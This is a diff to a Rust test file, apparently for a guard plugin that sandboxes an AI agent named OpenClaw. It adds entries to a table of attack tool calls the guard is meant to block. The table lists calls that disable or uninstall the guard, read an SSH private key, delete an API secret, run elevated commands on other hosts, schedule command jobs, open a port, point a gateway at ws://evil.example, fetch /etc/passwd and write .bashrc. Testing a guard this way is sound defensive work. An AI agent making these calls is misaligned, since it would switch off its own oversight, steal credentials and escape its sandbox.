@@ -32,7 +32,7 @@ fn outcome(client: &str, tool: &str, fields: &[(&'static str, &'static str)]) ->
 }
 
 /// Calls of OpenClaw's tools that would end its being guarded, or reach around the sandbox.
-const ATTACKS: [(&str, &[(&str, &str)]); 40] = [
+const ATTACKS: [(&str, &[(&str, &str)]); 45] = [
     ("plugins", &[("action", "disable"), ("pluginId", "lobsterpot")]),
     ("plugins", &[("action", "uninstall")]),
     ("plugins", &[("action", "install")]),
@@ -51,7 +51,7 @@ const ATTACKS: [(&str, &[(&str, &str)]); 40] = [
     ("terminal", &[("action", "input"), ("data", "cat ~/.ssh/id_ed25519\n")]),
     ("secrets", &[("action", "delete"), ("name", "STRIPE_API_KEY")]),
     ("lobster", &[("action", "run"), ("pipeline", "exec cat ~/.ssh/id_ed25519")]),
-    ("exec", &[("command", "id"), ("host", "gateway")]),
+    ("exec", &[("command", "id"), ("host", "somewhere")]),
     ("exec", &[("command", "id"), ("host", "node"), ("node", "laptop")]),
     ("exec", &[("command", "id"), ("node", "laptop")]),
     ("exec", &[("command", "id"), ("elevated", "true")]),
@@ -66,6 +66,11 @@ const ATTACKS: [(&str, &[(&str, &str)]); 40] = [
     ("automations", &[("action", "add"), ("job.schedule.kind", "stream")]),
     ("automations", &[("action", "add"), ("job.payload.kind", "script")]),
     ("automations", &[("action", "update"), ("job.trigger", "[]")]),
+    ("automations", &[("action", "add"), ("job.payload.kind", "command")]),
+    ("automations", &[("action", "update"), ("jobId", "theirs"), ("job.schedule.command", "[]")]),
+    ("automations", &[("action", "add"), ("schedule", "[]")]),
+    ("automations", &[("action", "update"), ("patch", "[]")]),
+    ("portal", &[("port", "8080")]),
     ("automations", &[("action", "list"), ("gatewayUrl", "ws://evil.example")]),
     ("file_fetch", &[("node", "laptop"), ("path", "/etc/passwd")]),
     ("file_write", &[("node", "laptop"), ("path", "/home/me/.bashrc")]),
